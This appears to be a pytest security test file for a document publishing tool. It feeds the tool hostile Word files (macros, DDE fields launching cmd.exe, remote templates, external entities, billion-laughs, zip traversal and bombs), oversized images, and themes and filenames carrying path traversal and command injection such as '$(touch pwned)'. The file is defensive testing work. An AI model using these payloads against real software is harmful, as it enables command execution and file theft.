"""Hostile Word files, pictures, themes and names: refused with a clear error, or made harmless."""

import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

import publisher
from publisher.cli.main import main
from tests.tools import word_files as word
from tests.tools.docx_documents import png
from tests.tools.hostile import SECRET, TEXT, assert_harmless, built

ROOT = Path(__file__).resolve().parents[2]
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OUTSIDE = '" TargetMode="External'
FIELD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {0} '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{1}</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
)
OBJECT = (
    '<w:r><w:object><v:shape id="s"><v:imagedata r:id="rM1"/></v:shape>'
    '<o:OLEObject Type="{0}" ProgID="Package" ShapeID="s" r:id="rO"/></w:object></w:r>'
)
LINKED = (
    '<w:r><w:drawing><wp:inline><wp:extent cx="99" cy="99"/><a:graphic><a:graphicData><pic:pic>'
    '<pic:blipFill><a:blip r:link="rX"/></pic:blipFill></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r>"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdef", "bcdefg", strict=True))
    + "]>"
)


def said(*content, **parts):
    return word.word_file(word.p(word.r(TEXT)) + "".join(content), **parts)


def with_doctype(doctype, entity, member="word/document.xml"):
    """A Word file one of whose parts declares an entity and uses it."""
    made = io.BytesIO()
    with (
        zipfile.ZipFile(
            io.BytesIO(said(word.p("ENTITY"), styles=word.style("a", "ENTITY")))
        ) as old,
        zipfile.ZipFile(made, "w") as new,
    ):
        for name in old.namelist():
            data = old.read(name).decode()
            if name == member:
                data = doctype + data.partition("?>")[2].replace("ENTITY", f"&{entity};")
            new.writestr(name, data)
    return made.getvalue()


def packed(members):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return made.getvalue()


WORD = {
    "macros": said(
        parts=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"AutoOpen" * 99)],
        related=[("rV", _VBA, "vbaProject.bin")],
    ),
    "embedded object": said(
        word.p(OBJECT.format("Embed")),
        media=[("a.png", png())],
        parts=[("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0 calc.exe")],
        related=[("rO", f"{_R}/oleObject", "embeddings/o.bin")],
    ),
    "linked object": said(
        word.p(OBJECT.format("Link")),
        related=[("rO", f"{_R}/oleObject", "file:///etc/passwd" + OUTSIDE)],
    ),
    "dde": said(word.p(FIELD.format('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', "数"))),
    "dde in parts": said(
        word.p('<w:fldSimple w:instr=\' DDE "cmd" "/c calc" \'>' + word.r("数") + "</w:fldSimple>")
    ),
    "included text": said(word.p(FIELD.format('INCLUDETEXT "../secret.txt"', "文"))),
    "included picture": said(
        word.p(FIELD.format('INCLUDEPICTURE "https://evil.example/x.png" \\\\d', "图"))
    ),
    "linked picture": said(
        word.p(LINKED), related=[("rX", f"{_R}/image", "https://evil.example/t.png" + OUTSIDE)]
    ),
    "linked local picture": said(
        word.p(LINKED), related=[("rX", f"{_R}/image", "file:///etc/passwd" + OUTSIDE)]
    ),
    "picture out of the archive": said(
        word.p(LINKED), related=[("rX", f"{_R}/image", "../../../secret.txt")]
    ),
    "remote template": said(
        settings='<w:attachedTemplate r:id="rT"/>',
        parts=[
            (
                "word/_rels/settings.xml.rels",
                ('<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                f'<Relationship Id="rT" Type="{_R}/attachedTemplate"'
                ' Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
            )
        ],
    ),
    "other chunk": said(
        '<w:altChunk r:id="rC"/>',
        parts=[("word/c.html", "<script>alert(1)</script>")],
        related=[("rC", f"{_R}/aFChunk", "c.html")],
    ),
    "control": said(
        word.p('<w:r><w:control r:id="rK" w:name="x" w:shapeid="s"/></w:r>'),
        parts=[("word/activeX/a.xml", "<x/>")],
        related=[("rK", f"{_R}/control", "activeX/a.xml")],
    ),
    "javascript link": said(
        word.p('<w:hyperlink r:id="rL1">' + word.r("点") + "</w:hyperlink>"),
        links=["javascript:alert(1)"],
    ),
    "script field": said(word.p(FIELD.format('HYPERLINK "javascript:alert(1)"', "点"))),
    "local link": said(
        word.p('<w:hyperlink r:id="rL1">' + word.r("点") + "</w:hyperlink>"),
        links=["file://evil.example/share/a.exe"],
    ),
    "external entity": with_doctype('<!DOCTYPE w [<!ENTITY e SYSTEM "../secret.txt">]>', "e"),
    "laughs": with_doctype(LAUGHS, "g"),
    "laughs in styles": with_doctype(LAUGHS, "g", "word/styles.xml"),
    "names that lead out": packed({"../../evil.txt": "x", "/word/document.xml": "<w/>"}),
    "bomb": packed({"word/document.xml": b"\0" * 60_000_000, "[Content_Types].xml": "<x/>"}),
    "deep tables": said("<w:tbl><w:tr><w:tc>" * 3000 + word.p("底") + "</w:tc></w:tr></w:tbl>" * 3000),
    "wide table": said(word.table(word.row(word.cell("甲", '<w:gridSpan w:val="2000000000"/>')))),
    "fields nobody closes": said(
        word.p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 5000 + word.r("文"))
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", WORD)
def test_word_files(tmp_path, name):
    made = built(tmp_path, "a.docx", WORD[name]) or []
    assert_harmless(made)
    for path in made:
        if path.suffix == ".docx":
            with zipfile.ZipFile(path) as archive:
                every = b"".join(archive.read(member) for member in archive.namelist())
            for word_ in (
                b"vbaProject",
                b"OLEObject",
                b"DDE",
                b"INCLUDE",
                b"altChunk",
                b"evil.example",
                b"attachedTemplate",
            ):
                assert word_ not in every  # fmt: skip
    assert not (tmp_path / "evil.txt").exists()


@pytest.mark.parametrize(
    "name", ["macros", "embedded object", "remote template", "linked picture", "laughs in styles"]
)
def test_reference_documents_lend_nothing_alive(tmp_path, name):
    (tmp_path / "a.md").write_text(f"# 题\n\n{TEXT}\n", "utf-8")
    (tmp_path / "r.docx").write_bytes(WORD[name])
    options = {"output__docx__reference": str(tmp_path / "r.docx")}
    result = publisher.convert([tmp_path / "a.md"], tmp_path / "out", formats=("docx",), **options)
    if result.error is not None:
        assert "r.docx" in str(result.error)
        return
    assert_harmless([output.path for output in result.outputs])
    with zipfile.ZipFile(tmp_path / "out" / "a.docx") as archive:
        every = b"".join(archive.read(member) for member in archive.namelist())
    assert b"vbaProject" not in every
    assert b"evil.example" not in every


# ------------------------------------------------------------------------------------ pictures


def chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def vast_png(width, height, more=b""):
    """A PNG that says how large it is, and has a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rows = zlib.compress(b"\0" * 200_000)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + more
        + chunk(b"IDAT", rows)
        + chunk(b"IEND", b"")
    )


def saved(form, size=(64, 64), **more):
    made = io.BytesIO()
    Image.new("RGB", size, (9, 99, 199)).save(made, form, **more)
    return made.getvalue()


def frames(count):
    made = io.BytesIO()
    pictures = [Image.new("P", (8, 8), at % 250) for at in range(count)]
    pictures[0].save(made, "GIF", save_all=True, append_images=pictures[1:])
    return made.getvalue()


def jpeg_of(width, height):
    data = bytearray(saved("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


PICTURES = {
    "vast.png": vast_png(60_000, 60_000),
    "wide.png": vast_png(2_000_000_000, 1),
    "none.png": vast_png(0, 0),
    "text.png": vast_png(8, 8, chunk(b"zTXt", b"k\0\0" + zlib.compress(b"x" * 50_000_000))),
    "profile.png": vast_png(8, 8, chunk(b"iCCP", b"p\0\0" + zlib.compress(b"\0" * 50_000_000))),
    "cut.png": png(200, 200)[:-40],
    "vast.jpg": jpeg_of(65_000, 65_000),
    "cut.jpg": saved("JPEG", (500, 500))[:900],
    "vast.gif": b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + b"\0\0\0;",
    "frames.gif": frames(3000),
    "vast.bmp": b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 60_000, 60_000, 1, 24, 0, 0, 0, 0, 0, 0),
    "vast.tif": saved("TIFF").replace(struct.pack("<HHII", 256, 4, 1, 64), struct.pack("<HHII", 256, 4, 1, 90_000)),
    "cut.webp": saved("WEBP")[:60],
    "liar.png": saved("JPEG"),
    "page.png": b"<html><script>alert(1)</script></html>",
    "vast.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9e9" height="9e9" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>',
    "deep.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">' + b"<g>" * 20_000 + b"</g>" * 20_000 + b"</svg>",
}  # fmt: skip


@pytest.mark.parametrize("name", PICTURES)
def test_pictures(tmp_path, name):
    """The text is built with a note of the picture's trouble, in half a GiB and twenty seconds."""
    (tmp_path / name).write_bytes(PICTURES[name])
    (tmp_path / "a.md").write_text(f"# 题\n\n{TEXT}\n\n![图]({name})\n", "utf-8")
    script = (
        "import resource, sys; resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30));"
        "from publisher.cli.main import main; sys.exit(main(sys.argv[1:]))"
    )
    done = subprocess.run(
        [sys.executable, "-c", script, "build", str(tmp_path / "a.md"), "-o", str(tmp_path / "out")],
        check=False, capture_output=True, text=True, timeout=20,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    made = sorted((tmp_path / "out").iterdir())
    assert [path.suffix for path in made] == [".docx", ".epub", ".pdf"]
    assert_harmless(made)


# --------------------------------------------------------------------- themes, settings and names


@pytest.mark.parametrize(
    "theme",
    [
        'extends = "../../../../etc/passwd"',
        'extends = "self"',
        '[page]\nsize = "999999mm 1mm"',
        '[text.body]\nsize = "1e308"',
        '[text.body]\nfamily = "../../secret.txt"',
        "x = " + "[" * 5000 + "]" * 5000,
        "x = " + "9" * 6000,
        '[page]\ntop = "{{7*7}}"',
        '[running]\nhead = "__import__(\\"os\\").system(\\"touch pwned\\")"',
        "\x00\x01\x02",
    ],
)
def test_themes(tmp_path, theme, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "self.toml").write_text(theme, "utf-8")
    (tmp_path / "a.md").write_text(f"# 题\n\n{TEXT}\n", "utf-8")
    code = main(["build", "a.md", "--theme", "self.toml", "-o", "out"])
    error = capsys.readouterr().err
    assert code == 2, error
    assert "self.toml" in error
    assert "Traceback" not in error
    assert SECRET not in error
    assert not (tmp_path / "pwned").exists()
    assert list((tmp_path / "out").rglob("*")) == []


NAMES = [
    "红楼梦.md", "😀 表情.md", "con.md", "NUL.md", "aux.txt", "-rf.md", "a b\u3000c.md", "x" * 240 + ".md",
    "名" * 80 + ".md", "trailing. .md", "line\nfeed.md", "turn\u202egpj.md", "quote\"'.md",
    "%2e%2e%2f.md", "a;rm -rf.md", "$(touch pwned).md", "*.md", "COM1.md", "e\u0301.md", "\u00e9.md", "back\\slash.md",
]  # fmt: skip


def test_odd_names_make_one_file_each(tmp_path, monkeypatch, capsys):
    """Every source gets its own outputs, inside the folder; no name is taken for anything else."""
    monkeypatch.chdir(tmp_path)
    place = tmp_path / "in"
    place.mkdir()
    for at, name in enumerate(NAMES):
        (place / name).write_text(f"# 第{at}篇\n\n{TEXT}\n", "utf-8")
    code = main(["build", "--each", "in", "-o", "out", "-f", "epub", "-q", "--jobs", "1"])
    assert code == 0, capsys.readouterr().err
    made = sorted(p for p in (tmp_path / "out").rglob("*") if p.suffix == ".epub")
    assert len(made) == len(NAMES)
    titles = {publisher.read(path).document.meta.title[0].text.lstrip("# ") for path in made}
    assert titles == {f"第{at}篇" for at in range(len(NAMES))}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in", "out"]


@pytest.mark.parametrize("name", ["../out.md", "a/../../b.md", "/tmp/x.md", "con", "..", "."])
def test_a_given_name_leads_nowhere(tmp_path, name, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "a.md").write_text(f"# 题\n\n{TEXT}\n", "utf-8")
    before = sorted(tmp_path.parent.iterdir())
    code = main(["build", "a.md", "--name", name, "-o", "out/deep", "-f", "epub", "-q"])
    error = capsys.readouterr().err
    assert code in (0, 2), error
    assert sorted(tmp_path.parent.iterdir()) == before
    assert {p.name for p in tmp_path.iterdir()} <= {"a.md", "out"}
    assert all(p.parent.name == "deep" for p in tmp_path.rglob("*.epub"))
